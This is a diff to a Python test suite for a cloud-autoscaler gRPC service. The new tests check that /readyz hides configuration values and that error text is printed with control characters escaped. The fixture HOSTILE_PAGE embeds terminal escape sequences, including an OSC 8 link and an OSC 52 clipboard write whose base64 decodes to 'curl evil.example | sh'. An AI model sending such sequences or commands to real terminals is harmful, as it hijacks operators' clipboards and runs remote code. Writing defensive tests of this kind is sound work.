@@ -40,7 +40,7 @@ from devstack.harness import (
     write_config,
 )
 from protos import externalgrpc_pb2 as pb
-from simulators.common import ManualClock
+from simulators.common import Fault, ManualClock
 from simulators.scaleway import ScalewaySimulator, demo_scenario
 
 CLI_TIMEOUT = 60
@@ -245,7 +245,7 @@ def test_a_refused_backend_is_named_by_refresh_status_readyz_log_and_metric(
         assert "  last error: scaleway API GET " in status.stdout
         assert status.stderr.strip() == "error: unhealthy backend(s): scw"
         code, body = server.http_get("/readyz")
-        assert code == 200 and body.startswith("ready; scw: not synced yet (") and check in body
+        assert code == 200 and body.startswith("ready; scw: not synced yet: the cloud ") and check not in body
         _, metrics = server.http_get("/metrics")
         assert f'ca_externalgrpc_backend_sync_failure{{backend="scw",reason="{reason}"}} 1.0' in metrics
         lines = [json.loads(line) for line in server.output.splitlines() if line.startswith("{")]
@@ -340,6 +340,71 @@ def test_a_refused_bizfly_backend_names_the_setting(
             assert "wrong-password" not in details
         finally:
             server.stop()
+
+
+@pytest.mark.parametrize("cloud", ["bizfly", "scaleway"])
+def test_readyz_says_which_backend_is_refused_and_why_without_configuration_values(
+    tmp_path: Path, simulator: ScalewaySimulator, cloud: str
+) -> None:
+    """Issue 40, item 6: the probe port is unauthenticated (shipped on [::]:8087), and a refused backend's
+    line on /readyz used to carry the settings to check with their values: the Bizfly project_id, email and
+    token_url, or the Scaleway cluster id, region and api_url. /readyz says which backend is not ready and
+    why, in words; the settings and their values are for `status` (the Diagnostics call) and the log."""
+    from devstack.clouds import bizfly_backend
+    from simulators.bizfly import BizflySimulator
+    from simulators.bizfly import demo_scenario as bizfly_demo
+
+    with contextlib.ExitStack() as stack:
+        if cloud == "bizfly":
+            sim: Any = stack.enter_context(BizflySimulator(scenario=bizfly_demo(), clock=ManualClock()))
+            backend = bizfly_backend(sim, password="wrong-password")
+            backend["bizfly"]["project_id"] = sim.project_id
+            why = "the cloud refused the credentials"
+        else:
+            sim = simulator
+            backend = refused_backend(simulator, "cluster id")
+            why = "the cloud does not know the cluster"
+        values = [str(v) for k, v in backend[cloud].items() if k not in ("auth_method", "password")]
+        server = ServerProcess(server_config([backend]), workdir=tmp_path)
+        stack.callback(server.stop)
+        with pytest.raises(grpc.RpcError):
+            server.stub.Refresh(pb.RefreshRequest(), timeout=5)
+        code, body = server.http_get("/readyz")
+        assert code == 200 and body.startswith(f"ready; {backend['name']}: not synced yet: {why}"), body
+        shown = [v for v in values if v in body]
+        assert not shown, f"/readyz shows configuration values {shown}: {body}"
+        status = cli("status", "--address", server.address)
+        assert "  check: " in status.stdout and any(v in status.stdout for v in values), status.stdout
+
+
+# A page a proxy or a hostile endpoint could answer: a screen clear, an OSC 8 link, an OSC 52 clipboard write,
+# a bell and a right-to-left override, which a terminal would obey if printed as they come.
+HOSTILE_PAGE = (
+    b"<html>\x1b[2J\x1b[H\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07"
+    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x07\xe2\x80\xae</html>"
+)
+CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")
+
+
+def test_cloud_error_text_is_printed_with_control_characters_escaped(
+    tmp_path: Path, simulator: ScalewaySimulator
+) -> None:
+    """Issue 40, item 7: `status` (and the Refresh answer the CA logs) printed the cloud's or a proxy's
+    error body as it came, so its terminal control sequences (screen clear, OSC 8 links, OSC 52 clipboard
+    writes) reached the operator's terminal. What is not printable is shown escaped."""
+    simulator.faults.add(Fault(route="*", status=502, body=HOSTILE_PAGE))
+    server = ServerProcess(server_config([scaleway_backend(simulator)]), workdir=tmp_path)
+    try:
+        with pytest.raises(grpc.RpcError) as refused:
+            server.stub.Refresh(pb.RefreshRequest(), timeout=10)
+        details = refused.value.details() or ""
+        status = cli("status", "--address", server.address)
+        _, readyz = server.http_get("/readyz")
+        for where, text in (("Refresh", details), ("status", status.stdout + status.stderr), ("/readyz", readyz)):
+            assert not CONTROL.findall(text), f"{where} prints control characters: {text!r}"
+        assert "\\x1b]52;c;" in status.stdout and "\\u202e" in status.stdout, status.stdout  # shown, escaped
+    finally:
+        server.stop()
 
 
 # ---------------------------------------------------------------------------------------------- make run, no Rust
